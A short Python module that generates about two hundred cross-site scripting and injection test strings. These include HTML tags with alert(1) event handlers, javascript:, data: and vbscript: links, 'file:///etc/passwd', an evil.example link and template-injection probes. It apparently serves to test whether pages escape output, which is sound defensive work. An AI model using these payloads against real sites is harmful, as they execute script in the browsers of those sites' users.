"""Two hundred texts that become code where a page does not escape them."""

from itertools import product

TAGS = (
    "script",
    "img src=x",
    "svg",
    "iframe",
    "body",
    "video src=x",
    "details open",
    "math",
    "input autofocus",
    "style",
)
EVENTS = ("onerror=alert(1)", "onload=alert(1)", "onfocus='alert(1)'", 'ontoggle="alert(1)"')
OPENINGS = ("<", '"><', "'><", "</span><")
LINKS = (
    *(
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "\x01javascript:alert(1)",
    ),
    *(
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "//evil.example",
        "file:///etc/passwd",
        "ms-word:x",
    ),
    *(
        "https:javascript:alert(1)",
        "http:/x",
        "mailto",
        "view-source:http://x",
        "blob:x",
        "https ://x",
        "\u202ehttps://x",
    ),
)
BREAKING = (
    *(
        "</p>",
        "</a>",
        "</script>",
        "-->",
        "<!--",
        "<![CDATA[",
        "]]>",
        "<?php",
        "&lt;b&gt;",
        "&#60;b&#62;",
        "&",
        '"',
        "'",
    ),
    *(
        "{{ 7*7 }}",
        "{% raw %}",
        "${7*7}",
        "\x00<b>",
        "<b\x00>",
        "\u2028<b>",
        "<\u200bb>",
        "＜b＞",
        '" onclick="x',
        "` onx=`",
    ),
)
PAYLOADS = (*(f"{o}{tag} {event}>" for o, tag, event in product(OPENINGS, TAGS, EVENTS)), *LINKS, *BREAKING)
